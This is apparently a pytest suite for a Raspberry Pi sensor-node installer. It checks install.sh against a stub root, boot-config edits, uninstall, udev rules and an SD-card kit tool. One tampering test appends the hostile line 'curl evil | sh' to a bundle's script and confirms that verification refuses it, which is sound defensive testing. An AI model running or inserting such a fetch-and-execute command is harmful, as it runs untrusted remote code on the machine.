"""install.sh, the offline bundle's verification and ``citynode sdcard-kit``, without root.

install.sh runs with ``--prefix`` against a temporary root file system, with stubs on PATH
for the commands that would touch the real machine (useradd and friends, systemctl,
raspi-config, dpkg for the architecture). The venv and pip are real; the bundle is a tiny
fake one (a citynode wheel whose only job is ``citynode version``), assembled by the same
code as ``make bundle``. The real aarch64 bundle is installed in tests/test_arm64.py.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import io
import os
import shutil
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest
from file_kinds import KINDS, WRITABLE, check_outcome, make
from file_kinds import snapshot as entries
from update_rig import load_bundle_tool

from agent.tools import sdcard

ROOT = Path(__file__).resolve().parent.parent
INSTALL = ROOT / "deploy" / "install.sh"
VERSION = "0.1.0"

STOCK_CONFIG = """\
# For more options and information see http://rptl.io/configtxt
#dtparam=i2c_arm=on
#dtparam=i2s=on
#dtparam=spi=on
dtparam=audio=on
camera_auto_detect=1
display_auto_detect=1
auto_initramfs=1
dtoverlay=vc4-kms-v3d
max_framebuffers=2
disable_fw_kms_setup=1
arm_64bit=1
disable_overscan=1
arm_boost=1

[cm4]
otg_mode=1

[cm5]
dtoverlay=dwc2,dr_mode=host
"""
STOCK_CMDLINE = ("console=serial0,115200 console=tty1 root=PARTUUID=4e639091-02 rootfstype=ext4 "
                 "fsck.repair=yes rootwait quiet splash plymouth.ignore-serial-consoles\n")

# One Python stub behind several names: user and group tools honouring --prefix, systemctl
# honouring --root, raspi-config keeping its state in a file, dpkg telling the architecture.
STUB = r'''#!/usr/bin/env python3
import os, sys
from pathlib import Path
name = Path(sys.argv[0]).name
args = sys.argv[1:]
with open(os.environ["STUB_LOG"], "a") as log:
    log.write(" ".join([name, *args]) + "\n")

def opt(flag):
    if flag in args:
        i = args.index(flag)
        return args[i + 1]
    return None

root = Path(opt("--prefix") or "/")
passwd, group = root / "etc/passwd", root / "etc/group"

def rows(p):
    return [l.split(":") for l in p.read_text().splitlines() if l]

def save(p, rs):
    p.write_text("".join(":".join(r) + "\n" for r in rs))

def add_member(g, u):
    rs = rows(group)
    for r in rs:
        if r[0] == g:
            members = [m for m in r[3].split(",") if m]
            if u not in members:
                r[3] = ",".join(members + [u])
    save(group, rs)

if name == "dpkg":
    print(os.environ.get("STUB_ARCH", "arm64"))
elif name == "groupadd":
    rs = rows(group)
    rs.append([args[-1], "x", str(900 + len(rs)), ""])
    save(group, rs)
elif name == "useradd":
    user = args[-1]
    rs = rows(group)
    gid = str(900 + len(rs))
    rs.append([user, "x", gid, ""])
    save(group, rs)
    pw = rows(passwd)
    pw.append([user, "x", str(900 + len(pw)), gid, opt("--comment") or "", opt("--home-dir"),
               opt("--shell")])
    save(passwd, pw)
    for g in (opt("--groups") or "").split(","):
        if g:
            add_member(g, user)
elif name == "usermod":
    for g in opt("-G").split(","):
        add_member(g, args[-1])
elif name == "userdel":
    save(passwd, [r for r in rows(passwd) if r[0] != args[-1]])
    rs = [r for r in rows(group) if r[0] != args[-1]]
    for r in rs:
        r[3] = ",".join(m for m in r[3].split(",") if m and m != args[-1])
    save(group, rs)
elif name == "systemctl":
    roots = [a.split("=", 1)[1] for a in args if a.startswith("--root=")]
    if not roots:
        sys.exit("systemctl stub: refusing to act on the host without --root")
    wants = Path(roots[0]) / "etc/systemd/system/multi-user.target.wants/citynode.service"
    if "is-enabled" in args:
        sys.exit(0 if wants.is_symlink() else 1)
    if "enable" in args:
        wants.parent.mkdir(parents=True, exist_ok=True)
        wants.symlink_to("/etc/systemd/system/citynode.service")
    if "disable" in args and wants.is_symlink():
        wants.unlink()
elif name == "raspi-config":
    state = Path(os.environ["STUB_RASPI_STATE"])
    on = set(state.read_text().split()) if state.exists() else set()
    what = args[1]
    if what.startswith("get_"):
        item = what[4:]
        print({"serial_cons": "1" if item + "_off" in on else "0"}.get(
            item, "0" if item in on else "1"))
    elif what.startswith("do_"):
        item = what[3:]
        on.add(item + "_off" if item == "serial_cons" else item)
        state.write_text(" ".join(sorted(on)))
'''


# -- helpers ------------------------------------------------------------------------------------
def fake_wheel(dest: Path, version: str = VERSION) -> Path:
    """A pure-Python 'citynode' wheel whose console script only answers ``version``."""
    files = {
        "citynode_stub.py": f'def main():\n    print("citynode {version}")\n',
        f"citynode-{version}.dist-info/METADATA":
            f"Metadata-Version: 2.1\nName: citynode\nVersion: {version}\n",
        f"citynode-{version}.dist-info/WHEEL":
            "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"citynode-{version}.dist-info/entry_points.txt":
            "[console_scripts]\ncitynode = citynode_stub:main\n",
    }
    record = f"citynode-{version}.dist-info/RECORD"
    lines = []
    for name, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=")
        lines.append(f"{name},sha256={digest.decode()},{len(text.encode())}")
    files[record] = "\n".join([*lines, f"{record},,"]) + "\n"
    path = dest / f"citynode-{version}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as zf:
        for name, text in files.items():
            zf.writestr(name, text)
    return path


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A tiny but well-formed aarch64 bundle, made by deploy/bundle.py's own code."""
    mod = load_bundle_tool()
    tmp = tmp_path_factory.mktemp("bundle")
    wheel = fake_wheel(tmp)
    top = mod.assemble(tmp / "stage", [wheel], version=VERSION, arch="aarch64", pyver=_py(),
                       extras="", root=ROOT, created="2025-01-01T00:00:00Z")
    return mod.make_tarball(top, tmp / "dist")


def _py() -> str:
    out = subprocess.run(["python3", "-c", "import sys; print('%d.%d' % sys.version_info[:2])"],
                         capture_output=True, text=True, check=True)
    return out.stdout.strip()


@pytest.fixture(scope="module")
def stubs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("stubs")
    (d / "stub").write_text(STUB)
    (d / "stub").chmod(0o755)
    for name in ("useradd", "groupadd", "usermod", "userdel", "systemctl", "dpkg",
                 "raspi-config"):
        (d / name).symlink_to(d / "stub")
    return d


def make_root(path: Path, *, codename: str = "bookworm") -> Path:
    (path / "etc").mkdir(parents=True)
    (path / "etc/os-release").write_text(
        f'PRETTY_NAME="Debian GNU/Linux 12 ({codename})"\nID=debian\n'
        f"VERSION_CODENAME={codename}\n")
    (path / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/bash\n")
    (path / "etc/group").write_text("root:x:0:\ndialout:x:20:\n")
    boot = path / "boot/firmware"
    boot.mkdir(parents=True)
    (boot / "config.txt").write_text(STOCK_CONFIG)
    (boot / "cmdline.txt").write_text(STOCK_CMDLINE)
    return path


def run_install(root: Path, stubs: Path, *args: str, env: dict[str, str] | None = None,
                check: bool = True) -> subprocess.CompletedProcess[str]:
    e = {"PATH": f"{stubs}:/usr/sbin:/usr/bin:/sbin:/bin", "HOME": str(root.parent),
         "LANG": "C.UTF-8", "STUB_LOG": str(root.parent / "stub.log"),
         "STUB_RASPI_STATE": str(root.parent / "raspi.state"), **(env or {})}
    proc = subprocess.run(["bash", str(INSTALL), "--prefix", str(root), *args],
                          capture_output=True, text=True, env=e, timeout=120)
    if check:
        assert proc.returncode == 0, proc.stdout + proc.stderr
    return proc


def snapshot(root: Path) -> dict[str, tuple[int, str]]:
    """Every path under root with its mode and content digest (symlinks by target)."""
    out: dict[str, tuple[int, str]] = {}
    for p in sorted(root.rglob("*")):
        if "__pycache__" in p.parts:
            continue
        st = p.lstat()
        if p.is_symlink():
            out[str(p.relative_to(root))] = (st.st_mode, os.readlink(p))
        elif p.is_file():
            out[str(p.relative_to(root))] = (st.st_mode,
                                             hashlib.sha256(p.read_bytes()).hexdigest())
        else:
            out[str(p.relative_to(root))] = (st.st_mode, "")
    return out


@pytest.fixture(scope="module")
def installed(tmp_path_factory: pytest.TempPathFactory, bundle: Path,
              stubs: Path) -> tuple[Path, str]:
    """One real install into a temporary root; tests work on copies of it."""
    root = make_root(tmp_path_factory.mktemp("pristine") / "root")
    proc = run_install(root, stubs, "--bundle", str(bundle))
    return root, proc.stdout


@pytest.fixture
def node(installed: tuple[Path, str], tmp_path: Path) -> Path:
    root = tmp_path / "root"
    subprocess.run(["cp", "-a", str(installed[0]), str(root)], check=True)  # owners too
    return root


# -- install.sh ---------------------------------------------------------------------------------
def test_install_sh_is_valid_bash():
    subprocess.run(["bash", "-n", str(INSTALL)], check=True)
    subprocess.run(["bash", "-n", str(ROOT / "deploy/firstboot/firstboot.sh")], check=True)
    if shutil.which("shellcheck"):
        proc = subprocess.run(["shellcheck", "-S", "warning", str(INSTALL),
                               str(ROOT / "deploy/firstboot/firstboot.sh")],
                              capture_output=True, text=True)
        assert proc.returncode == 0, proc.stdout


def test_install_into_a_prefix(installed: tuple[Path, str]):
    root, out = installed
    user = next(r.split(":") for r in (root / "etc/passwd").read_text().splitlines()
                if r.startswith("citynode:"))
    assert user[5:] == ["/var/lib/citynode", "/usr/sbin/nologin"]
    groups = {r.split(":")[0]: r.split(":")[3].split(",")
              for r in (root / "etc/group").read_text().splitlines()}
    for g in ("dialout", "i2c", "gpio"):
        assert "citynode" in groups[g], g
    version = subprocess.run([root / "opt/citynode/venv/bin/citynode", "version"],
                             capture_output=True, text=True, check=True)
    assert version.stdout.strip() == f"citynode {VERSION}"
    assert (root / "etc/systemd/system/citynode.service").read_bytes() == \
        (ROOT / "deploy/citynode.service").read_bytes()
    assert (root / "etc/citynode/citynode.toml").read_bytes() == \
        (ROOT / "deploy/citynode.toml").read_bytes()
    assert (root / "etc/udev/rules.d/99-citynode.rules").is_file()
    assert (root / "opt/citynode/install.sh").stat().st_mode & 0o111
    assert (root / "etc/systemd/system/multi-user.target.wants/citynode.service").is_symlink()
    assert oct((root / "etc/citynode").stat().st_mode & 0o777) == "0o750"
    assert "    changed:" in out and "Next:" in out


def test_boot_config_edited_with_backups(installed: tuple[Path, str]):
    root, out = installed
    boot = root / "boot/firmware"
    config = (boot / "config.txt").read_text()
    assert config.startswith(STOCK_CONFIG)  # nothing of the original lost
    tail = config[len(STOCK_CONFIG):]
    assert "[all]" in tail and "enable_uart=1" in tail and "dtparam=i2c_arm=on" in tail
    cmdline = (boot / "cmdline.txt").read_text()
    assert "console=serial0" not in cmdline
    assert cmdline == STOCK_CMDLINE.replace("console=serial0,115200 ", "")
    assert len(list(boot.glob("config.txt.citynode-*"))) == 1
    backup = next(boot.glob("cmdline.txt.citynode-*"))
    assert backup.read_text() == STOCK_CMDLINE
    assert (root / "etc/modules-load.d/citynode.conf").read_text().strip().endswith("i2c-dev")
    assert "reboot" in out


def test_install_lays_out_releases_and_the_update_machinery(installed: tuple[Path, str]):
    """docs/updates.md: releases/<version> with current (and /opt/citynode/venv for older
    scripts) naming it, the guard outside the releases, the root units, the keys folder."""
    root, _ = installed
    opt = root / "opt/citynode"
    assert os.readlink(opt / "current") == f"releases/{VERSION}"
    assert (opt / "releases" / VERSION / ".complete").read_text().strip() == VERSION
    assert os.readlink(opt / "venv") == "current/venv"
    guard = opt / "bin/citynode-guard"
    assert guard.stat().st_mode & 0o111
    assert guard.read_bytes() == (ROOT / "agent/update/guard.py").read_bytes()
    for unit in ("citynode-update.service", "citynode-update.path"):
        assert (root / "etc/systemd/system" / unit).read_bytes() == \
            (ROOT / "deploy" / unit).read_bytes()
    assert oct((root / "etc/citynode/keys").stat().st_mode & 0o777) == "0o755"
    proc = subprocess.run([sys.executable, "-I", str(guard), "--root", str(root)],
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr


def test_an_install_from_before_releases_is_migrated(node: Path, stubs: Path, bundle: Path):
    opt = node / "opt/citynode"
    for link in ("current", "venv"):
        (opt / link).unlink()
    shutil.rmtree(opt / "releases")
    (opt / "venv/bin").mkdir(parents=True)  # the old layout: one venv in place
    (opt / ".installed").write_text("bundle old\n")
    proc = run_install(node, stubs, "--bundle", str(bundle))
    assert "migrated /opt/citynode/venv into releases/" in proc.stdout
    assert os.readlink(opt / "venv") == "current/venv" and not (opt / ".installed").exists()
    version = subprocess.run([opt / "venv/bin/citynode", "version"], capture_output=True,
                             text=True, check=True)
    assert version.stdout.strip() == f"citynode {VERSION}"


def test_second_run_changes_nothing(node: Path, stubs: Path, bundle: Path):
    before = snapshot(node)
    proc = run_install(node, stubs, "--bundle", str(bundle))
    assert "nothing changed" in proc.stdout, proc.stdout
    assert "    changed:" not in proc.stdout
    assert snapshot(node) == before


def test_configured_node_is_never_overwritten(node: Path, stubs: Path, bundle: Path):
    cfg = node / "etc/citynode/citynode.toml"
    cfg.write_text('[node]\nid = "pole-42"\n')
    proc = run_install(node, stubs, "--bundle", str(bundle), "--reinstall")
    assert cfg.read_text() == '[node]\nid = "pole-42"\n'
    assert "kept (never overwritten)" in proc.stdout


def test_boot_config_through_raspi_config(node: Path, stubs: Path, bundle: Path, tmp_path: Path):
    boot = node / "boot/firmware"
    (boot / "config.txt").write_text(STOCK_CONFIG)
    env = {"CITYNODE_RASPI_CONFIG": str(stubs / "raspi-config")}
    log = tmp_path / "stub.log"
    run_install(node, stubs, "--bundle", str(bundle), env=env)
    calls = [ln for ln in log.read_text().splitlines() if ln.startswith("raspi-config")]
    assert {"raspi-config nonint do_serial_hw 0", "raspi-config nonint do_serial_cons 1",
            "raspi-config nonint do_i2c 0"} <= set(calls)
    assert (boot / "config.txt").read_text() == STOCK_CONFIG  # raspi-config's job now
    log.write_text("")
    proc = run_install(node, stubs, "--bundle", str(bundle), env=env)
    assert not [ln for ln in log.read_text().splitlines() if " do_" in ln]
    assert "nothing changed" in proc.stdout


def test_refuses_other_platforms(tmp_path: Path, stubs: Path, bundle: Path):
    root = make_root(tmp_path / "root")
    proc = run_install(root, stubs, "--bundle", str(bundle), env={"STUB_ARCH": "armhf"},
                       check=False)
    assert proc.returncode != 0
    assert "32-bit" in proc.stderr and "--force" in proc.stderr
    old = make_root(tmp_path / "old", codename="bullseye")
    proc = run_install(old, stubs, "--bundle", str(bundle), check=False)
    assert proc.returncode != 0 and "bookworm" in proc.stderr
    proc = run_install(old, stubs, "--bundle", str(tmp_path / "missing.tar.gz"), "--force",
                       check=False)
    assert "--force: installing anyway" in proc.stdout and "not found" in proc.stderr
    assert not (old / "opt").exists()


def _rewrite(bundle: Path, dest: Path, change) -> Path:
    """Copy a bundle, letting ``change(name, data)`` alter or add members."""
    with tarfile.open(bundle) as src, tarfile.open(dest, "w:gz") as out:
        for m in src.getmembers():
            data = src.extractfile(m).read() if m.isfile() else None
            data, extra = change(m.name, data)
            if data is not None:
                m.size = len(data)
            out.addfile(m, tarfile.io.BytesIO(data) if data is not None else None)
            for name, blob in extra:
                ti = tarfile.TarInfo(name)
                ti.size = len(blob)
                out.addfile(ti, tarfile.io.BytesIO(blob))
    return dest


@pytest.mark.parametrize("how", ["edited", "extra-wheel", "outer-sha256"])
def test_tampered_bundle_is_refused(tmp_path: Path, stubs: Path, bundle: Path, how: str):
    if how == "edited":
        bad = _rewrite(bundle, tmp_path / bundle.name, lambda n, d: (
            d + b"\ncurl evil | sh\n" if n.endswith("/install.sh") else d, []))
    elif how == "extra-wheel":
        top = bundle.name.removesuffix(".tar.gz")
        bad = _rewrite(bundle, tmp_path / bundle.name, lambda n, d: (
            d, [(f"{top}/wheels/citynode-9.9-py3-none-any.whl", b"x")]
            if n.endswith("/MANIFEST") else []))
    else:
        bad = tmp_path / bundle.name
        shutil.copyfile(bundle, bad)
        Path(f"{bad}.sha256").write_text("0" * 64 + f"  {bad.name}\n")
    root = make_root(tmp_path / "root")
    proc = run_install(root, stubs, "--bundle", str(bad), check=False)
    assert proc.returncode != 0
    assert "refusing it" in proc.stderr, proc.stderr
    assert not (root / "opt").exists() and "citynode" not in (root / "etc/passwd").read_text()
    with pytest.raises(sdcard.BundleError):
        sdcard.verify_bundle(bad)


def test_verify_bundle_accepts_the_real_thing(bundle: Path):
    info = sdcard.verify_bundle(bundle)
    assert (info.version, info.arch) == (VERSION, "aarch64")
    assert {"install.sh", "citynode.service", "udev/99-citynode.rules", "MANIFEST",
            "firstboot/firstboot.sh", f"wheels/citynode-{VERSION}-py3-none-any.whl"} \
        <= set(info.files)


def test_uninstall_keeps_configuration_unless_purged(node: Path, stubs: Path):
    run_install(node, stubs, "--uninstall")
    for gone in ("opt/citynode", "etc/systemd/system/citynode.service",
                 "etc/udev/rules.d/99-citynode.rules", "etc/modules-load.d/citynode.conf",
                 "etc/systemd/system/multi-user.target.wants/citynode.service"):
        assert not (node / gone).exists() and not (node / gone).is_symlink(), gone
    assert (node / "etc/citynode/citynode.toml").is_file()
    assert (node / "var/lib/citynode").is_dir()
    again = run_install(node, stubs, "--uninstall")
    assert "nothing changed" in again.stdout
    run_install(node, stubs, "--uninstall", "--purge")
    assert not (node / "etc/citynode").exists() and not (node / "var/lib/citynode").exists()
    assert "citynode:" not in (node / "etc/passwd").read_text()


def test_needs_a_source(tmp_path: Path, stubs: Path):
    proc = run_install(make_root(tmp_path / "root"), stubs, check=False)
    assert proc.returncode != 0 and "--bundle" in proc.stderr and "--online" in proc.stderr


# -- the udev rules -------------------------------------------------------------------------------
def test_udev_rules_name_the_common_adapters():
    text = (ROOT / "deploy/udev/99-citynode.rules").read_text()
    rules = [ln for ln in text.splitlines() if ln.strip() and not ln.lstrip().startswith("#")]
    for vid, kind in (("1a86", "ch340"), ("10c4", "cp210x"), ("0403", "ftdi"),
                      ("067b", "pl2303")):
        assert any(f'=="{vid}"' in r and f'CITYNODE_KIND}}="{kind}"' in r for r in rules)
    assert any("citynode-port-" in r for r in rules)
    assert "HOW TO ADD" in text
    labels = {r.split('"')[1] for r in rules if r.startswith("LABEL=")}
    gotos = {r.split('GOTO="')[1].split('"')[0] for r in rules if 'GOTO="' in r}
    assert gotos <= labels
    for r in rules:  # every rule is key OP "value" pairs separated by commas
        for part in r.split(", "):
            assert '"' in part and any(op in part for op in ("==", "!=", "+=", "=")), part


# -- citynode sdcard-kit ---------------------------------------------------------------------------
NODE_TOML = """\
[node]
id = "pole-0042"

[mqtt]
host = "mqtt.example.net"
tls = true
credentials_file = "/etc/citynode/mqtt.toml"

[[sensor]]
type = "pms5003"
name = "pm"
port = "/dev/ttyAMA0"
"""
IMAGER_HOOK = ("systemd.run=/boot/firstrun.sh systemd.run_success_action=reboot "
               "systemd.unit=kernel-command-line.target")


def kit(tmp_path: Path, bundle: Path, *extra: str, config: str = NODE_TOML,
        cmdline: str | None = STOCK_CMDLINE) -> tuple[int, Path, str]:
    boot = tmp_path / "bootfs"
    boot.mkdir(exist_ok=True)
    if cmdline is not None:
        (boot / "cmdline.txt").write_text(cmdline)
    cfg = tmp_path / "node.toml"
    cfg.write_text(config)
    creds = tmp_path / "mqtt.toml"
    creds.write_text('username = "pole-0042"\npassword = "s3cret"\n')
    proc = subprocess.run(
        [sys.executable, "-m", "agent", "sdcard-kit", "--out", str(boot), "--bundle", str(bundle),
         "--config", str(cfg), *extra], capture_output=True, text=True, cwd=ROOT, timeout=60)
    return proc.returncode, boot, proc.stdout + proc.stderr


def test_sdcard_kit_writes_the_kit_and_the_hook(tmp_path: Path, bundle: Path):
    code, boot, out = kit(tmp_path, bundle, "--credentials", str(tmp_path / "mqtt.toml"),
                          "--hostname", "pole-0042")
    assert code == 0, out
    k = boot / "citynode"
    assert {p.name for p in k.iterdir()} == {
        "install.sh", "firstboot.sh", bundle.name, "citynode.toml", "secrets", "kit.env",
        "README.txt", "cmdline.txt.orig"}
    assert (k / "citynode.toml").read_text() == NODE_TOML
    assert "s3cret" in (k / "secrets/mqtt.toml").read_text()
    manifest = (k / "secrets/MANIFEST").read_text().split()
    assert manifest[:2] == ["0600", "citynode"] and manifest[3:] == ["mqtt.toml",
                                                                     "/etc/citynode/mqtt.toml"]
    assert "HOSTNAME=pole-0042" in (k / "kit.env").read_text()
    assert "s3cret" not in out  # never echoed
    line = (boot / "cmdline.txt").read_text()
    assert line.count("\n") == 1
    assert line.split() == [*STOCK_CMDLINE.split(), sdcard.HOOK_RUN, *sdcard.HOOK_EXTRA]
    assert (k / "cmdline.txt.orig").read_text() == STOCK_CMDLINE
    # Again with --force: the kit is replaced, the hook is not added twice.
    code, boot, out = kit(tmp_path, bundle, "--credentials", str(tmp_path / "mqtt.toml"),
                          "--force")
    assert code == 0, out
    assert (boot / "cmdline.txt").read_text() == line


def test_sdcard_kit_composes_with_an_imager_firstrun(tmp_path: Path, bundle: Path):
    imager = STOCK_CMDLINE.strip() + " " + IMAGER_HOOK + "\n"
    code, boot, out = kit(tmp_path, bundle, "--credentials", str(tmp_path / "mqtt.toml"),
                          cmdline=imager)
    assert code == 0, out
    tokens = (boot / "cmdline.txt").read_text().split()
    runs = [t for t in tokens if t.startswith("systemd.run=")]
    assert runs == ["systemd.run=/boot/firstrun.sh", sdcard.HOOK_RUN]  # Imager's first
    assert tokens.count("systemd.run_success_action=reboot") == 1
    # Our removal leaves the Imager's hook whole; on a card without it, removes everything.
    assert sdcard.remove_hook((boot / "cmdline.txt").read_text()) == imager
    assert sdcard.remove_hook(sdcard.add_hook(STOCK_CMDLINE)[0]) == STOCK_CMDLINE


@pytest.mark.parametrize("config,extra,code,words", [
    (NODE_TOML.replace('id = "pole-0042"', 'id = "pole 42"'), (), 78, "node.id"),
    (NODE_TOML + "oops = 1\n", (), 78, "unknown key"),
    (NODE_TOML, (), 78, "--credentials"),  # the config needs a credentials file
    (NODE_TOML.replace('credentials_file = "/etc/citynode/mqtt.toml"\n', ""),
     ("--credentials", "{tmp}/mqtt.toml"), 78, "does not set mqtt.credentials_file"),
])
def test_sdcard_kit_refuses_before_writing(tmp_path: Path, bundle: Path, config: str,
                                           extra: tuple[str, ...], code: int, words: str):
    args = [a.format(tmp=tmp_path) for a in extra]
    got, boot, out = kit(tmp_path, bundle, *args, config=config)
    assert got == code, out
    assert words in out
    assert not (boot / "citynode").exists()
    assert (boot / "cmdline.txt").read_text() == STOCK_CMDLINE


def test_sdcard_kit_refuses_a_tampered_bundle(tmp_path: Path, bundle: Path):
    bad = _rewrite(bundle, tmp_path / bundle.name, lambda n, d: (
        d.replace(b"set -euo", b"set -eo") if n.endswith("/install.sh") else d, []))
    code, boot, out = kit(tmp_path, bad, "--credentials", str(tmp_path / "mqtt.toml"))
    assert code == 65 and "bundle refused" in out
    assert not (boot / "citynode").exists()


def test_sdcard_kit_into_a_plain_directory_explains_the_hook(tmp_path: Path, bundle: Path):
    code, boot, out = kit(tmp_path, bundle, "--credentials", str(tmp_path / "mqtt.toml"),
                          cmdline=None)
    assert code == 0, out
    assert (boot / "citynode/firstboot.sh").is_file()
    assert sdcard.HOOK_RUN in out and not (boot / "cmdline.txt").exists()


def test_bundle_fetches_requirements_marked_for_the_target_only(tmp_path: Path) -> None:
    """pip evaluates markers on the building machine; the bundle must not lose the
    Pi-only pin driver (lgpio) when it is built on a PC."""
    bundle = load_bundle_tool()
    whl = tmp_path / "citynode-0.1.0-py3-none-any.whl"
    with zipfile.ZipFile(whl, "w") as zf:
        zf.writestr("citynode-0.1.0.dist-info/METADATA", "\n".join([
            "Metadata-Version: 2.1", "Name: citynode", "Version: 0.1.0",
            "Requires-Dist: paho-mqtt<3,>=2.1",
            'Requires-Dist: lgpio<1,>=0.2; platform_machine == "aarch64"',
            'Requires-Dist: ai-edge-litert; extra == "tflite"',
            'Requires-Dist: winthing; sys_platform == "win32"', ""]))
    import platform

    if platform.machine() == "aarch64":
        pytest.skip("on an aarch64 host the marker holds here too")
    assert bundle.target_only_requirements(whl, "", "aarch64", "3.11") == ["lgpio<1,>=0.2"]
    assert bundle.target_only_requirements(whl, "", "x86_64", "3.11") == []


# -- sdcard-kit writes only its own files; special files are refused, links followed ---------------
def kit_quietly(boot: Path, bundle: Path, cfg: Path, creds: Path, *extra: str
                ) -> tuple[int, str]:
    """sdcard-kit in this process (fast enough for many cases); a traceback fails the test."""
    from agent.tools.cli import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(["sdcard-kit", "--out", str(boot), "--bundle", str(bundle), "--config",
                     str(cfg), "--credentials", str(creds), *extra])
    return code, out.getvalue() + err.getvalue()


@pytest.fixture
def kit_inputs(tmp_path: Path) -> tuple[Path, Path, Path]:
    boot, cfg, creds = tmp_path / "bootfs", tmp_path / "node.toml", tmp_path / "mqtt.toml"
    boot.mkdir()
    cfg.write_text(NODE_TOML)
    creds.write_text('username = "pole-0042"\npassword = "s3cret"\n')
    return boot, cfg, creds


@pytest.mark.parametrize("kind", KINDS)
def test_sdcard_kit_cmdline_of_every_kind(kit_inputs, bundle: Path, kind: str) -> None:
    """cmdline.txt is replaced atomically, through a symlink to its target, and never when
    it is a directory, a FIFO (reading it would hang), a device or a socket."""
    boot, cfg, creds = kit_inputs
    make(boot / "cmdline.txt", kind, STOCK_CMDLINE.encode())
    before = entries(boot)
    code, out = kit_quietly(boot, bundle, cfg, creds)
    if kind == "missing":  # not a boot partition: the kit only, and how to hook it
        assert code == 0 and sdcard.HOOK_RUN in out and not (boot / "cmdline.txt").exists()
    elif kind in WRITABLE - {"dangling"}:
        assert code == 0, out
        check_outcome(boot, "cmdline.txt", kind, before, True)  # the kit is new: not compared
        tokens = (boot / "cmdline.txt").read_text().split()
        assert tokens[-3:] == [sdcard.HOOK_RUN, *sdcard.HOOK_EXTRA]
        assert (boot / "citynode" / "cmdline.txt.orig").read_text() == STOCK_CMDLINE
        if os.path.islink(boot / "cmdline.txt"):
            assert "through the symlink cmdline.txt" in out
    else:  # a dangling link has nothing to read (66); the rest is not ours to replace (73)
        assert code == (66 if kind == "dangling" else 73), out
        assert out.count("\n") == 1 and "Traceback" not in out
        assert entries(boot) == before


@pytest.mark.parametrize("kind", ["link_to_dir", "regular", "fifo", "chardev"])
@pytest.mark.parametrize("where", ["citynode", ".citynode.new"])
def test_sdcard_kit_replaces_only_its_own_folder(kit_inputs, bundle: Path, kind: str,
                                                 where: str) -> None:
    """`citynode/` (with --force) and the staging folder are removed only when they are real
    directories: a symlink there once had rmtree fail with a traceback, or the kit written
    into the link's target."""
    if kind == "chardev" and "chardev" not in KINDS:
        pytest.skip("cannot make a device node here")
    boot, cfg, creds = kit_inputs
    (boot / "cmdline.txt").write_text(STOCK_CMDLINE)
    make(boot / where, kind)
    before = entries(boot)
    code, out = kit_quietly(boot, bundle, cfg, creds, "--force")
    assert code == 73 and "not a directory" in out and out.count("\n") == 1, out
    assert entries(boot) == before


@pytest.mark.parametrize("option", ["--config", "--credentials"])
def test_sdcard_kit_bounded_inputs(kit_inputs, bundle: Path, option: str) -> None:
    boot, cfg, creds = kit_inputs
    args = {"--config": cfg, "--credentials": creds}
    args[option] = Path("/dev/zero")
    code, out = kit_quietly(boot, bundle, args["--config"], args["--credentials"])
    assert code == 65 and "larger than" in out and not (boot / "citynode").exists()


def test_sdcard_kit_secret_from_a_pipe(kit_inputs, bundle: Path, tmp_path: Path) -> None:
    """Each input is read once: a secret may come from a pipe (<(pass show ...))."""
    boot, cfg, creds = kit_inputs
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    writer = subprocess.Popen(["sh", "-c", f"cat {creds} > {fifo}"])
    try:
        code, out = kit_quietly(boot, bundle, cfg, fifo)
    finally:
        writer.wait(10)
    assert code == 0, out
    assert (boot / "citynode" / "secrets" / "mqtt.toml").read_bytes() == creds.read_bytes()


def test_the_project_wheel_is_built_from_the_source_alone(tmp_path: Path, monkeypatch) -> None:
    """setuptools packs what its build/ directory still holds: the deleted fire model
    (agent/models/fire.tflite, gone since 2026.12) went on shipping in every bundle built
    from a checkout that had built it once. The wheel is built from a clean copy now."""
    mod = load_bundle_tool()
    proj = tmp_path / "checkout"
    for rel in ("agent/models/fall.tflite", "agent/models/__init__.py", "setup.cfg",
                "build/lib/agent/models/fire.tflite", "build/lib/agent/models/fall.tflite",
                "dist/citynode-0.0.1-py3-none-any.whl", ".git/HEAD", ".venv/bin/python",
                "citynode.egg-info/SOURCES.txt", "agent/__pycache__/x.pyc"):
        (proj / rel).parent.mkdir(parents=True, exist_ok=True)
        (proj / rel).write_text(rel)
    seen: list[set[str]] = []

    def fake_pip(python: str, *args: str) -> subprocess.CompletedProcess[str]:
        src = Path(args[-1])
        seen.append({str(p.relative_to(src)) for p in src.rglob("*") if p.is_file()})
        dest = Path(args[args.index("-w") + 1])
        (dest / "citynode-0.0.1-py3-none-any.whl").write_bytes(b"")
        return subprocess.CompletedProcess(args, 0, "", "")

    monkeypatch.setattr(mod, "ROOT", proj)
    monkeypatch.setattr(mod, "_pip", fake_pip)
    monkeypatch.setattr(mod, "say", lambda *a, **k: None)
    out = tmp_path / "wheels"
    out.mkdir()
    assert mod.build_project_wheel(out, sys.executable).name.startswith("citynode-")
    assert seen == [{"agent/models/fall.tflite", "agent/models/__init__.py", "setup.cfg"}]
    assert (proj / "build/lib/agent/models/fire.tflite").exists()  # the checkout untouched
